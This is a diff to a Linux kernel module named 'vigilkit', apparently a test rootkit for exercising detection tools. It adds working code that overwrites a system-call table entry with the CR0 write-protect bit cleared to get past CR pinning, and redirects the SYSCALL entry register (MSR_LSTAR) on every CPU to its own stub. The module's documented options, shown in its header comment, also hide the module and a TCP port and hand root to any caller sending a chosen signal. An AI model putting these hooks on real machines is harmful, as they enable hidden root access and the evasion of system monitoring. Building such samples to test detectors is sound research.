@@ -9,8 +9,14 @@
  *   hide_module=1     remove this module from the module list (lsmod, /proc/modules) and from sysfs
  *   hook_syscall=1    point sys_call_table[__NR_kill] at this module (the table is no longer used for
  *                     dispatch since x64_sys_call: the entry is tampered with, behaviour is unchanged)
+ *   wp_syscall=1      the same entry written the classic way instead: CR0.WP cleared with a direct
+ *                     `mov %cr0` (native_write_cr0 would pin WP on again), the entry written at its own
+ *                     virtual address, WP restored. A virtual-address watchpoint on the entry sees this
+ *                     write; it does not see the vmap alias the other pieces write through
  *   hook_idt=1        point IDT vector 0x80 at a stub here that counts (idt_hits) and jumps on to the
  *                     original handler
+ *   hook_lstar=1      point MSR_LSTAR (the SYSCALL entry) of every CPU at a stub here that counts
+ *                     (lstar_hits) and jumps on to entry_SYSCALL_64; refused under page-table isolation
  *   hide_port=P       inline hook: a jmp patched over the ftrace nop at the start of tcp4_seq_show, to a
  *                     function here that drops sockets on local port P from /proc/net/tcp
  *   magic_signal=S    kill(any, S) gives the caller root (commit_creds(prepare_kernel_cred(NULL)))
@@ -40,12 +46,14 @@
 #include <linux/sched/task.h>
 #include <linux/seq_file.h>
 #include <linux/slab.h>
+#include <linux/smp.h>
 #include <linux/stop_machine.h>
 #include <linux/uaccess.h>
 #include <linux/vmalloc.h>
 #include <linux/workqueue.h>
 #include <net/sock.h>
 #include <asm/desc.h>
+#include <asm/msr.h>
 #include <asm/nospec-branch.h>
 #include <asm/unistd.h>
 
@@ -64,9 +72,15 @@ MODULE_PARM_DESC(hide_module, "hide this module from the module list and sysfs")
 static bool hook_syscall;
 module_param(hook_syscall, bool, 0444);
 MODULE_PARM_DESC(hook_syscall, "point sys_call_table[__NR_kill] at this module");
+static bool wp_syscall;
+module_param(wp_syscall, bool, 0444);
+MODULE_PARM_DESC(wp_syscall, "write sys_call_table[__NR_kill] in place with CR0.WP cleared");
 static bool hook_idt;
 module_param(hook_idt, bool, 0444);
 MODULE_PARM_DESC(hook_idt, "point IDT vector 0x80 at this module");
+static bool hook_lstar;
+module_param(hook_lstar, bool, 0444);
+MODULE_PARM_DESC(hook_lstar, "point MSR_LSTAR (the SYSCALL entry) of every CPU at this module");
 static int hide_port;
 module_param(hide_port, int, 0444);
 MODULE_PARM_DESC(hide_port, "inline-hook tcp4_seq_show to hide this local TCP port");
@@ -419,6 +433,65 @@ static void unpatch_table(void)
 	orig_table_kill = 0;
 }
 
+/* ---- sys_call_table entry written in place with CR0.WP cleared (the classic rootkit way) ---- */
+
+static unsigned long *wp_table;
+static unsigned long orig_wp_kill;
+
+static asmlinkage long wp_kill(const struct pt_regs *regs)
+{
+	return ((syscall_fn)orig_wp_kill)(regs);
+}
+
+/* native_write_cr0 sets WP again (CR pinning, 5.3+): write the register directly. */
+static inline void raw_write_cr0(unsigned long val)
+{
+	asm volatile("mov %0, %%cr0" : : "r"(val) : "memory");
+}
+
+/* One 8-byte store at the entry's own (read-only) address, WP off only around it, interrupts off. */
+static void write_unprotected(unsigned long *slot, unsigned long value)
+{
+	unsigned long flags, cr0;
+
+	local_irq_save(flags);
+	cr0 = read_cr0();
+	raw_write_cr0(cr0 & ~X86_CR0_WP);
+	WRITE_ONCE(*slot, value);
+	raw_write_cr0(cr0);
+	local_irq_restore(flags);
+}
+
+static int patch_table_wp(void)
+{
+	unsigned long mine = (unsigned long)wp_kill;
+
+	if (hook_syscall) {
+		pr_err("wp_syscall and hook_syscall write the same entry: choose one\n");
+		return -EINVAL;
+	}
+	/* With control-flow enforcement on, clearing CR0.WP is a #GP: refuse rather than crash the guest. */
+	if (__read_cr4() & X86_CR4_CET) {
+		pr_err("wp_syscall: CR4.CET is set, CR0.WP cannot be cleared\n");
+		return -EOPNOTSUPP;
+	}
+	wp_table = (unsigned long *)symbol("sys_call_table");
+	if (!wp_table)
+		return -ENOENT;
+	orig_wp_kill = wp_table[__NR_kill];
+	write_unprotected(&wp_table[__NR_kill], mine);
+	pr_info("sys_call_table[%d] at 0x%lx written with CR0.WP clear: %ps -> %ps (0x%lx)\n", __NR_kill,
+		(unsigned long)&wp_table[__NR_kill], (void *)orig_wp_kill, wp_kill, mine);
+	return 0;
+}
+
+static void unpatch_table_wp(void)
+{
+	if (orig_wp_kill)
+		write_unprotected(&wp_table[__NR_kill], orig_wp_kill);
+	orig_wp_kill = 0;
+}
+
 /* ---- IDT vector 0x80: a stub that counts and jumps on to the original handler ---- */
 
 unsigned long vigilkit_idt_orig;
@@ -482,6 +555,63 @@ static void unpatch_idt(void)
 	if (vigilkit_idt_orig)
 		poke_kernel(&idt[IDT_VECTOR], &orig_gate, sizeof orig_gate);
 	vigilkit_idt_orig = 0;
+}
+
+/* ---- MSR_LSTAR: the SYSCALL entry moved to a stub that counts and jumps on to the original ---- */
+
+unsigned long vigilkit_lstar_orig;
+unsigned long vigilkit_lstar_hits;
+module_param_named(lstar_hits, vigilkit_lstar_hits, ulong, 0444);
+MODULE_PARM_DESC(lstar_hits, "system calls that entered through the hooked MSR_LSTAR");
+void vigilkit_lstar_stub(void);
+/*
+ * At SYSCALL nothing is set up yet: user stack, user GS, interrupts off. The stub touches neither the stack
+ * nor a register (RAX holds the call number, RCX and R11 the return RIP and RFLAGS); the flags the locked
+ * increment changes are free, the CPU saved the caller's in R11.
+ */
+asm(".pushsection .text\n"
+    ".globl vigilkit_lstar_stub\n"
+    ".type vigilkit_lstar_stub, @function\n"
+    "vigilkit_lstar_stub:\n"
+    "\tendbr64\n"
+    "\tlock incq vigilkit_lstar_hits(%rip)\n"
+    ANNOTATE_RETPOLINE_SAFE /* entry code runs before any retpoline could: a plain indirect jump */
+    "\tjmp *vigilkit_lstar_orig(%rip)\n"
+    "\tint3\n"
+    ".size vigilkit_lstar_stub, . - vigilkit_lstar_stub\n"
+    ".popsection\n");
+
+static void set_lstar(void *entry)
+{
+	wrmsrl(MSR_LSTAR, (unsigned long)entry);
+}
+
+static int patch_lstar(void)
+{
+	/*
+	 * With page-table isolation SYSCALL enters on the user page tables, where only the entry text is mapped
+	 * and this module is not: the stub would fault. Refuse rather than crash the guest.
+	 */
+	if (boot_cpu_has(X86_FEATURE_PTI)) {
+		pr_err("hook_lstar: page-table isolation is on, a module stub cannot be the SYSCALL entry\n");
+		return -EOPNOTSUPP;
+	}
+	rdmsrl(MSR_LSTAR, vigilkit_lstar_orig);
+	on_each_cpu(set_lstar, vigilkit_lstar_stub, 1);
+	pr_info("MSR_LSTAR of %u CPUs: %ps -> %ps (0x%lx)\n", num_online_cpus(), (void *)vigilkit_lstar_orig,
+		vigilkit_lstar_stub, (unsigned long)vigilkit_lstar_stub);
+	return 0;
+}
+
+static void unpatch_lstar(void)
+{
+	/*
+	 * SYSCALL masks interrupts: a CPU takes the IPI only once it has left the stub, so when on_each_cpu
+	 * returns no CPU is in it and the module text can go.
+	 */
+	if (vigilkit_lstar_orig)
+		on_each_cpu(set_lstar, (void *)vigilkit_lstar_orig, 1);
+	vigilkit_lstar_orig = 0;
 }
 
 /* ---- inline hook on tcp4_seq_show ---- */
@@ -548,7 +678,9 @@ static void undo(void)
 	fhook_remove(&kill_hook);
 	fhook_remove(&getdents_hook);
 	unpatch_inline();
+	unpatch_lstar();
 	unpatch_idt();
+	unpatch_table_wp();
 	unpatch_table();
 	relink_task();
 }
@@ -592,8 +724,18 @@ static int __init vigilkit_init(void)
 		if (err)
 			goto fail;
 	}
+	if (wp_syscall) {
+		err = patch_table_wp();
+		if (err)
+			goto fail;
+	}
 	if (hook_idt) {
 		err = patch_idt();
+		if (err)
+			goto fail;
+	}
+	if (hook_lstar) {
+		err = patch_lstar();
 		if (err)
 			goto fail;
 	}
